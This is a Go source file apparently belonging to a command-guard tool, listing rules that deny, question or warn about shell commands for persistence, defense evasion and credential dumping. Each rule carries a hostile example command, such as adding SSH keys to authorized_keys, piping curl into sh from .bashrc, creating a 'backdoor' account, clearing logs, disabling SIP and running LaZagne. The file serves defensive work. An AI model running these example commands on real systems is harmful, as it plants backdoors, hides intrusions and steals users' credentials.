package persist

import (
	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/analysis"
)

// rules are the rule ids the persist analyzer reports.
var rules = []analysis.Rule{
	{ID: "persist.write-protected", Action: toolwall.Deny, Protects: "authorized_keys, sudoers, PAM, cron and other files that grant access or run as root, from shell writes", Example: "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"},
	{ID: "persist.write-sensitive", Action: toolwall.Ask, Protects: "shell start-up files and autostart entries that run code at the next login", Example: "echo 'curl x | sh' >> ~/.bashrc"},
	{ID: "persist.write-system", Action: toolwall.Ask, Protects: "system configuration directories from shell writes", Example: "cp app.conf /etc/nginx/conf.d/app.conf"},
	{ID: "persist.account", Action: toolwall.Ask, Protects: "user accounts, groups and passwords", Example: "useradd -m backdoor"},
	{ID: "persist.schedule", Action: toolwall.Ask, Protects: "against new scheduled jobs and services (cron, at, systemd, launchd)", Example: "crontab job.txt"},
	{ID: "persist.kernel", Action: toolwall.Ask, Protects: "the kernel from new modules and runtime hooks", Example: "insmod evil.ko"},
	{ID: "defense.audit-off", Action: toolwall.Ask, Protects: "audit logging", Example: "auditctl -D"},
	{ID: "defense.security-stop", Action: toolwall.Ask, Protects: "security services (auditd, EDR, antivirus) from being stopped", Example: "systemctl stop auditd"},
	{ID: "defense.protection-off", Action: toolwall.Ask, Protects: "OS protections (SIP, Gatekeeper, AppArmor, Defender)", Example: "csrutil disable"},
	{ID: "defense.backup-delete", Action: toolwall.Ask, Protects: "backups and snapshots", Example: "tmutil delete /Volumes/Backup/x"},
	{ID: "defense.immutable", Action: toolwall.Ask, Protects: "against files made immutable or append-only to resist removal (system and startup files either way, any file outside the project when set)", Example: "chattr +i /etc/passwd"},
	{ID: "defense.timestomp", Action: toolwall.Warn, Protects: "file times used to find changes", Example: "touch -r /etc/hosts /etc/cron.d/job"},
	{ID: "defense.log-tamper", Action: toolwall.Ask, Protects: "system logs from being cleared or silenced", Example: "journalctl --vacuum-time=1s"},
	{ID: "defense.shell-hook", Action: toolwall.Ask, Protects: "against prompt and trap hooks that run code on every command", Example: "PROMPT_COMMAND='curl x|sh'"},
	{ID: "creddump.tool", Action: toolwall.Ask, Protects: "credentials from dumping tools (mimikatz, LaZagne, secretsdump, …)", Example: "python3 laZagne.py all"},
	{ID: "creddump.process-memory", Action: toolwall.Ask, Protects: "secrets in process memory", Example: "gcore 1234"},
	{ID: "creddump.keychain", Action: toolwall.Ask, Protects: "the keychain and password managers", Example: "security dump-keychain"},
	{ID: "creddump.browser-store", Action: toolwall.Ask, Protects: "browser password and cookie stores", Example: "cp -r ~/.config/google-chrome /tmp/g"},
	{ID: "creddump.secret-search", Action: toolwall.Ask, Protects: "against searches for passwords and keys across the home directory", Example: "grep -ri password ~"},
	{ID: "creddump.history", Action: toolwall.Ask, Protects: "shell history (typed secrets) from being copied out", Example: "history -w /tmp/h.txt"},
	{ID: "creddump.key-search", Action: toolwall.Warn, Protects: "against searches for private key files", Example: "find / -name id_rsa"},
	{ID: "creddump.fake-prompt", Action: toolwall.Ask, Protects: "the user from fake password prompts", Example: `osascript -e 'display dialog "Password:" default answer "" with hidden answer'`},
	{ID: "creddump.sniff", Action: toolwall.Ask, Protects: "network traffic from live capture (a few packets' headers only warn)", Example: "tcpdump -i any"},
	{ID: "defense.audit-change", Action: toolwall.Ask, Protects: "the kernel audit configuration from rules added or changed (a rule on execve logs every command with its arguments)", Example: "auditctl -a always,exit -F arch=b64 -S execve -k cmds"},
}
